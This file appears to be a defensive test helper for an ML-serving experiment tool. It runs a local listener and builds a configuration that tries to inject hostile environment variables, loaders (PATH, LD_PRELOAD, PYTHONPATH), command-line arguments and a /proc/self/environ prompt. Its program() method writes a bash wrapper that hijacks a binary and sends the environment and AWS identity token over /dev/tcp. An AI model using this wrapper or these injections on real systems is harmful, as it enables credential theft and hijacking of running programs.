"""Who attacks: his server, his programs, and the experiment in which he tries everything at once."""

import contextlib
import socketserver
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from specdecode.experiment import load_preset


@dataclass
class Attacker:
    """His server, which keeps whatever arrives, and the folder with his programs."""

    folder: Path
    port: int = 0
    arrived: list[bytes] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    @property
    def marks(self) -> list[str]:
        """Files that his code left where it ran."""
        return sorted(path.name for path in self.folder.glob("ran-*"))

    def program(self, name: str) -> None:
        """A program of that name that tells his server all it sees, leaves a mark, and becomes the real one."""
        path = self.folder / "bin" / name
        path.parent.mkdir(exist_ok=True)
        path.write_text(
            f"""#!/bin/bash
touch "{self.folder}/ran-{name}-$HOSTNAME"
exec 9<>/dev/tcp/127.0.0.1/{self.port}
{{ echo "from $HOSTNAME"; env; cat "${{AWS_WEB_IDENTITY_TOKEN_FILE:-/dev/null}}"; }} >&9
exec 9>&-
PATH="${{PATH#*:}}"
exec {name} "$@"
"""
        )
        path.chmod(0o755)


@contextlib.contextmanager
def listening(folder: Path) -> Iterator[Attacker]:
    """He listens meanwhile."""
    made = Attacker(folder)

    class Keep(socketserver.StreamRequestHandler):
        def handle(self) -> None:
            self.request.settimeout(5)
            with contextlib.suppress(OSError):
                received = b""
                while chunk := self.request.recv(65536):
                    received += chunk
                made.arrived.append(received)
                return
            made.arrived.append(received or b"(a connection)")

    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Keep) as server:
        made.port = server.server_address[1]
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield made
        server.shutdown()


def redirect(attacker: Attacker) -> dict[str, str]:
    """Variables that would fetch other code and talk to other services."""
    aws = {"AWS_ENDPOINT_URL": attacker.url, "AWS_ENDPOINT_URL_STS": attacker.url}
    proxies = {"HTTPS_PROXY": attacker.url, "http_proxy": attacker.url}
    return {"BUNDLE_URI": "s3://attacker/b.zip", "BUNDLE_SHA256": "0" * 64, **aws, **proxies, "POD_IP": "127.0.0.1"}


def loaders(attacker: Attacker) -> dict[str, str]:
    """Variables that would run his code in a program of ours."""
    folder = str(attacker.folder)
    return {"PATH": f"{folder}/bin", "PYTHONPATH": folder, "LD_PRELOAD": f"{folder}/evil.so", "VLLM_PLUGINS": "evil"}


ARGUMENTS = [
    *("evil/model", "--middleware", "evil.Middleware", "--midd=evil", "--worker_cls", "evil.Worker", "--trust-rem"),
    *("--config=/tmp/evil.yaml", "--chat-template", "evil.jinja", "--hf-overrides", '{"auto_map": {}}'),
]
CONFIG = {"attn_cls": "evil.Attention", "quantized_checkpoints_path": "/tmp/evil"}
PROMPTS = {
    "name": "own",
    "label": "own",
    "kind": "set",
    "text": "/proc/self/environ",
    "structured": False,
    "prompts": {"set": "own", "sha256": "0" * 64, "category": "own"},
}
SAID = ("settable-variable", "settable-argument", "settable-configuration", "prompt-text")


def document(attacker: Attacker) -> dict[str, Any]:
    """All of it in one experiment."""
    return {
        "extends": "rehearsal",
        "name": "attack",
        "serving": {"env": redirect(attacker), "extra_args": ARGUMENTS, "neuron_config": CONFIG},
        "variants": [
            {"name": "base", "label": "Base", "env": loaders(attacker)},
            {**load_preset("rehearsal").variant("sd").model_dump(mode="json"), "env": {"https_proxy": attacker.url}},
        ],
        "workload": {"cases": [PROMPTS, "count"]},
    }
